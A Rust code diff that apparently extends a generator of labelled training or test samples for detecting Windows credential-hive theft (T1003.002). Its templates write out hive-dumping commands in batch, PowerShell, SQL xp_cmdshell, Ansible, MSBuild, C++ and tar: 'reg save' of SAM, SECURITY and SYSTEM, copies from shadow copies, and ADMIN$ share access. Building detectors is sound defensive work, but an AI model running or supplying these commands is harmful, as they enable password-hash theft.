@@ -87,6 +87,54 @@ const SCRIPT: &[&str] = &[
     "@('{bare}' -split ' ') | % { cmd /c \"{verb1}$_ {dir}\\$_\" }",
 ];
 
+/// The names stand in one place, what is done with them in another.
+const APART: &[&str] = &[
+    concat!(
+        "(echo {n1}& echo {n2}«& echo {n3}»)>{dir}\\{stem.1}.lst⏎{b}⏎for /f %%i in ({dir}\\{stem.1}.lst) do {verb1}%%i ",
+        "{dir}\\%%i.{anyext}"
+    ),
+    "echo {n1}>l.txt⏎echo {n2}>>l.txt⏎{b}⏎for /f \"delims=\" %%a in (l.txt) do {verb1}%%a {dir}\\%%a",
+    "set LIST={n1} {n2}« {n3}»⏎{b}⏎{b}⏎for %%h in (%LIST%) do {verb1}%%h {dir}\\%%h.{anyext}⏎{b}",
+    "set \"A={n1}\"⏎set \"B={n2}\"⏎{b}⏎{b}⏎{verb1}%A% {outfile}⏎{verb1}%B% {outfile}⏎{b}",
+    "set R=HKLM⏎{b}⏎{b}⏎reg save %R%\\{n1} {outfile}⏎reg save %R%\\{n2} {outfile}",
+    concat!(
+        "DECLARE @n TABLE (v sysname);⏎INSERT @n VALUES ('{n1}'), ('{n2}');⏎DECLARE @c varchar(400);⏎SET @c = '{verb1}' + @v + ' ",
+        "{dir}\\' + @v;⏎EXEC master..xp_cmdshell @c«, no_output»;"
+    ),
+    concat!(
+        "- hosts: «all¦windows¦workstations»⏎  vars:⏎    «items¦parts¦list¦names»: [{n1}, {n2}«, {n3}»]⏎    stage: {dir}⏎  tasks:⏎    - name: ",
+        "{comment}⏎      «ansible.windows.»win_«command¦shell»: '{verb1}{{ item }} {{ stage }}\\{{ item }}.{anyext}'⏎      loop: ",
+        "\"{{ «items¦parts¦list¦names» }}\""
+    ),
+    concat!(
+        "<Project ToolsVersion=\"4.0\">⏎  <PropertyGroup><H>HKLM\\</H><Out>$(TEMP)\\{stem}</Out></PropertyGroup>⏎  <ItemGroup><Part ",
+        "Include=\"{n1};{n2}«;{n3}»\" /></ItemGroup>⏎  <Target Name=\"{stem}\">⏎    <Exec Command=\"reg save $(H)%(Part.Identity) ",
+        "$(Out)\\%(Part.Identity)\" />⏎  </Target>⏎</Project>"
+    ),
+    concat!(
+        "$map = [ordered]@{ {n1} = 'c1'; {n2} = 'c2' }⏎{pb}⏎{pb}⏎$sub = [IO.Path]::Combine($link, 'Windows', 'System32', 'config')⏎{pb}⏎foreach ",
+        "($e in $map.GetEnumerator()) {⏎    [IO.File]::Copy(\"$sub\\$($e.Key)\", (Join-Path $stage \"$($e.Value).bin\"), $true)⏎}⏎{pb}"
+    ),
+    concat!(
+        "$names = '{n1}','{n2}'«,'{n3}'»⏎{pb}⏎{pb}⏎{pb}⏎foreach ($n in $names) {⏎    «reg save \"HKLM\\$n\" \"$stage\\$n.hiv\" | Out-Null¦Copy-Item ",
+        "\"$dev\\Windows\\System32\\config\\$n\" $stage»⏎}⏎{pb}"
+    ),
+    concat!(
+        "static const wchar_t *kDir = L\"\\\\Windows\\\\System32\\\\config\\\\\";⏎⏎bool pull(int i, const std::wstring &leaf, std::vector<char> &out) ",
+        "{⏎    std::wstring p = kDev + std::to_wstring(i) + kDir + leaf;⏎    HANDLE h = CreateFileW(p.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, ",
+        "OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS, nullptr);⏎    if (h == INVALID_HANDLE_VALUE) return false;⏎    return read(h, out);⏎}⏎⏎int wmain() ",
+        "{⏎    std::vector<char> a, b;⏎    pull({1..9}, L\"{n1}\", a);⏎    pull({1..9}, L\"{n2}\", b);⏎    «upload(a); upload(b);⏎    »return 0;⏎}"
+    ),
+    concat!(
+        "const char *names[] = { \"{n1}\", \"{n2}\"«, \"{n3}\"» };⏎for (int i = 0; i < {2..3}; i++) {⏎    «RegOpenKeyExA(HKEY_LOCAL_MACHINE, names[i], 0, ",
+        "KEY_READ, &h);⏎    RegSaveKeyA(h, out(names[i]), NULL);¦snprintf(p, sizeof p, \"%s\\\\System32\\\\config\\\\%s\", windir, names[i]);⏎    ",
+        "CopyFileA(p, out(names[i]), FALSE);»⏎}"
+    ),
+    "net use Q: \\\\{host}\\ADMIN$ /user:{user} {password}⏎Q:⏎cd «repair¦System32\\config¦system32\\config\\RegBack»⏎copy {n1} {outfile}⏎copy {n2} {outfile}⏎net use Q: /delete",
+    "cd /d {link}\\Windows\\System32⏎{b}⏎tar -cf {outfile} config/{n1} config/{n2}⏎{b}",
+    "cd /mnt/{stem}/Windows/System32⏎tar czf /tmp/{stem}.tgz config/{n1} config/{n2}",
+];
+
 /// What stands round the act, and the act, whatever the names are.
 const PYHEAD: &str = concat!(
     "«#!/usr/bin/env python3⏎»import os«, sys»«, subprocess»«, shutil»«, json»«⏎import «winreg¦pathlib¦zipfile, io¦socket¦",
@@ -195,6 +243,23 @@ pub const FAMILIES: &[Family] = &[
     Family::other("programs", "program-sharp-other", Code, SHARP).slots(programs! {
         "quoted": QUOTED_OTHERS, "csact": SHARP_HIVES, "folder": FOLDER_SHARP,
     }).weight(8),
+    Family::act("programs", "program-apart-hives", "program-apart-other", Code, APART).slots(&[
+        ("n1", NAMED[0]), ("n2", NAMED[1]), ("n3", NAMED[2]), ("b", B), ("pb", PB), ("verb1", VERB1),
+    ]).weight(13),
+    Family::other("programs", "program-apart-other", Code, APART).slots(&[
+        ("n1", UNNAMED[0]), ("n2", UNNAMED[1]), ("n3", UNNAMED[2]), ("b", B), ("pb", PB), ("verb1", VERB1),
+    ]).weight(14),
+    Family::other("programs", "program-unit-tests", Code, &[
+        "class {const.1}(unittest.TestCase):⏎    def test_{alnum4}(self):⏎        self.assertEqual({fn.1}(\"{x}\"), \"{y}\")⏎    def test_{alnum4}(self):⏎        self.assert«True¦False¦IsNone»({fn.1}(\"{x}\"))",
+        "def test_{fn.1}():⏎    assert {fn.1}('{x}') == '{y}'⏎    assert {fn.1}('{x}') «is None¦== '{y}'»",
+        "it('{comment}', () => {⏎  expect({fn.1}('{x}')).toBe('{y}');⏎  expect({fn.1}('{x}')).toBe('{y}');⏎});",
+        "enum Hive { Sam, Security, System, Software }⏎impl Hive { fn name(&self) -> &str { match self { Self::Sam => \"SAM\", _ => \"{y}\" } } }",
+        "// review: {fn.1}(\"{x}\") should not be called here, see {stem}",
+        "const HIVE_NAMES = ['SAM', 'SECURITY', 'SYSTEM', 'SOFTWARE'];⏎export function {fn.1}(x) { return HIVE_NAMES.includes(x); }",
+    ]).slots(&[
+        ("const", "«Kind¦Parser¦Hive¦Path¦Rules»Test«s»"), ("fn", "«kind_of¦parse_hive¦is_hive¦classify¦normalise_path¦detects»"),
+        ("x", r"«SAM¦SECURITY¦sam¦software¦HKLM\SAM¦config\SAM¦sample¦reg save»"), ("y", "«accounts¦hive¦positive¦programs¦T1003.002¦registry¦other»"),
+    ]).weight(5),
     Family::act("programs", "program-script-hives", "program-script-other", Code, SCRIPT).slots(programs! {
         "quoted": QUOTED_HIVES,
         "bare": "«SAM SECURITY SYSTEM¦sam system¦SAM SYSTEM¦security sam¦SYSTEM SAM SECURITY¦SOFTWARE SAM SYSTEM¦sam»",
@@ -209,6 +274,14 @@ pub const FAMILIES: &[Family] = &[
     }).weight(13),
 ];
 
+/// Names of which one at least is a hive's that counts, and names of which none is.
+const NAMED: [&str; 3] = ["«SAM¦sam¦SECURITY¦security¦Sam»", "«SYSTEM¦system¦SECURITY¦SAM¦sam»", "«SECURITY¦SYSTEM¦SOFTWARE¦DEFAULT»"];
+const UNNAMED: [&str; 3] = ["«SOFTWARE¦software¦DEFAULT»", "«COMPONENTS¦DRIVERS¦HARDWARE¦SOFTWARE»", "«BBI¦DEFAULT¦ELAM»"];
+const B: &str = "«echo {comment}¦whoami¦hostname¦vssadmin list shadows¦timeout /t {1..9}¦rem {comment}¦ipconfig /all»";
+const PB: &str = concat!(
+    "«Write-Host '{comment}'¦Start-Sleep {1..9}¦# {comment}¦Get-Process | Export-Csv {psout}¦$stage = Join-Path $env:ProgramData '{stem}'¦",
+    "cmd.exe /c mklink /d $link \"$($snap.DeviceObject)\\\" | Out-Null¦Get-ItemProperty HKLM:\\{softkey}¦Compress-Archive \"$stage\\*\" {psdir}\\{stem}.zip»"
+);
 const PY_HIVES: &str = concat!(
     "«('SAM', 'SECURITY')¦(\"SAM\", \"SYSTEM\", \"SECURITY\")¦[\"sam\", \"security\", \"system\"]¦['SAM', 'SYSTEM']¦",
     "(\"SECURITY\", \"SAM\")¦['DEFAULT', 'SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM']¦('SYSTEM', 'SAM', 'SECURITY')¦",
